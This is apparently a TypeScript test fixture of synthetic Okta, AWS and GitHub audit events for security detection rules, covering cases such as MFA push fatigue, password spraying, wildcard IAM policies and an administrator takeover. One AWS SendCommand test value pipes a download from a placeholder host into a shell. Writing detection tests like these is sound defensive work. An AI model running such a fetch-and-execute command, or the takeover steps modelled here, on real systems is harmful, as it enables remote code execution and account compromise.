import { fileURLToPath } from 'node:url';
import type { AuditEvent } from '../../../../src/audit/index.js';
import { act, at, failed, login, many, type History } from './history.js';

/** The team's rules use the facts that public rules about Okta and GitHub name. */
export const PUBLIC_RULES = fileURLToPath(new URL('public-rules.yml', import.meta.url));

const okta = (minute: number, eventType: string, actorId: string, to = actorId) =>
  act(minute, 'identity_provider_event', actorId, to, { details: { source: 'okta', eventType } });
const github = (minute: number, action: string, actorId = 'octo') =>
  at(minute, 'code_host_event', {
    actor: { type: 'user', id: actorId },
    details: { source: 'github', action, org: 'acme' },
  });

const fact = (source: string, details: Readonly<Record<string, unknown>>) =>
  at(0, 'public_event', { actor: { type: 'user', id: 'eve' }, details: { source, ...details } });

function finds(rule: string, found: AuditEvent, ...passed: readonly AuditEvent[]): History {
  return { rule, says: 'what a published rule finds, and what is near it', events: [found, ...passed], alerts: [rule] };
}

const okFailure = { eventType: 'user.session.start', result: 'FAILURE' };
const policy = (action: string, arn: string) => ({
  ...{ eventName: 'CreatePolicyVersion', arn },
  document: `{"Effect": "Allow", "Action": "${action}", "Resource": "*"}`,
});
const sends = (command: string) => fact('aws', { eventName: 'SendCommand', command });
const takes = (seconds: number) => fact('aws', { eventName: 'AssumeRole', seconds });

const PUBLISHED: readonly History[] = [
  finds(
    'okta_password_as_name',
    fact('okta', { ...okFailure, name: 'correct horse battery' }),
    fact('okta', { ...okFailure, name: 'ada@example.com' }),
    fact('okta', { ...okFailure, name: '0oa1' }),
  ),
  finds(
    'okta_new_behaviour',
    fact('okta', { eventType: 'policy.evaluate_sign_on', behaviors: '{New Device=POSITIVE}' }),
    fact('okta', { eventType: 'policy.evaluate_sign_on', behaviors: '{New Device=NEGATIVE}' }),
  ),
  finds('okta_zone_changed', fact('okta', { eventType: 'zone.delete' }), fact('okta', { eventType: 'zone.create' })),
  finds(
    'aws_root',
    fact('aws', { userType: 'Root', eventType: 'AwsApiCall' }),
    fact('aws', { userType: 'Root', eventType: 'AwsServiceEvent' }),
  ),
  finds(
    'aws_policy_allows_all',
    fact('aws', policy('*', 'arn:aws:iam::1:user/eve')),
    fact('aws', policy('*', 'arn:aws:sts::1:assumed-role/ci-terraform-1')),
    fact('aws', policy('s3:Get', 'arn:aws:iam::1:user/eve')),
  ),
  finds(
    'aws_login_without_mfa',
    fact('aws', { eventName: 'ConsoleLogin', result: 'Success', mfaUsed: 'No' }),
    fact('aws', { eventName: 'ConsoleLogin', result: 'Success', mfaUsed: 'Yes' }),
  ),
  finds(
    'aws_command_loads',
    sends('CURL https://e.example/x | sh'),
    sends('curly | shell'),
    sends(`${'curl'.repeat(8000)}|`),
  ),
  finds('aws_short_role', takes(900), takes(3600), takes(0)),
  finds(
    'github_public',
    fact('github', { action: 'repo.access', visibility: 'public', before: 'private' }),
    fact('github', { action: 'repo.access', visibility: 'public', before: 'public' }),
  ),
  finds(
    'github_secrets_unchecked',
    fact('github', { action: 'repository_secret_scanning.disable' }),
    fact('github', { action: 'repository_secret_scanning.enable' }),
  ),
];

export const PUBLIC_HISTORIES: readonly History[] = [
  ...PUBLISHED,
  {
    rule: 'okta_admin_role',
    says: 'a role of an administrator, and a password that is reset',
    events: [okta(0, 'user.account.privilege.grant', 'eve'), okta(1, 'user.account.reset_password', 'eve', 'ada')],
    alerts: ['okta_admin_role of eve'],
  },
  {
    rule: 'okta_factor_gone',
    says: 'all factors of somebody are reset, and a factor is enrolled',
    events: [
      okta(0, 'user.mfa.factor.reset_all', 'help-desk', 'ada'),
      okta(1, 'user.mfa.factor.activate', 'help-desk', 'bea'),
    ],
    alerts: ['okta_factor_gone of ada'],
  },
  {
    rule: 'okta_push_fatigue',
    says: 'five messages within ten minutes; four; five in half an hour; five twice; and a message every other minute for more than an hour',
    events: [
      ...many(5, (index) => okta(index * 2, 'system.push.send_factor_verify_push', 'ada')),
      ...many(4, (index) => okta(index, 'system.push.send_factor_verify_push', 'bea')),
      ...many(5, (index) => okta(index * 7, 'system.push.send_factor_verify_push', 'cem')),
      ...many(10, (index) => okta(index + (index < 5 ? 0 : 40), 'system.push.send_factor_verify_push', 'dan')),
      ...many(36, (index) => okta(index * 2, 'system.push.send_factor_verify_push', 'eve')),
    ],
    alerts: ['ada', 'dan', 'dan', 'eve', 'eve'].map((account) => `okta_push_fatigue of ${account}`),
  },
  {
    rule: 'github_loosened',
    says: 'the second factor is not required any more; a policy is tightened',
    events: [github(0, 'org.disable_two_factor_requirement'), github(1, 'org.enable_two_factor_requirement')],
    alerts: ['github_loosened of acme'],
  },
  {
    rule: 'github_mass_deletion',
    says: 'three repositories within an hour; two, and one that is archived',
    events: [
      ...many(3, (index) => github(index * 20, 'repo.destroy', 'eve')),
      ...many(2, (index) => github(index, 'repo.destroy', 'ada')),
      github(3, 'repo.archived', 'ada'),
    ],
    alerts: ['github_mass_deletion of eve'],
  },
  {
    rule: 'distributed_spray',
    says: 'a spray by way of many proxies, as it was seen against Okta: one attempt for each account and address',
    events: many(60, (index) => failed(index / 7, `user-${index}@example.com`, { ip: `198.51.100.${index}` })),
    alerts: ['distributed_spray'],
  },
  {
    rule: 'new_administrator_deletes',
    says: 'an account that is taken over removes the other administrators',
    events: [
      ...many(10, (index) => failed(index / 10, 'eve')),
      login(2, 'eve'),
      act(3, 'role_assigned', 'id-of-eve', 'id-of-eve', { details: { roleName: 'Super Administrator' } }),
      act(5, 'user_deleted', 'id-of-eve', 'root'),
      act(6, 'user_deleted', 'id-of-eve', 'ada'),
    ],
    alerts: [
      'brute_force of eve',
      'success_after_brute_force of eve',
      'new_administrator of id-of-eve',
      'self_escalation of id-of-eve',
      'new_administrator_deletes of id-of-eve',
    ],
  },
];
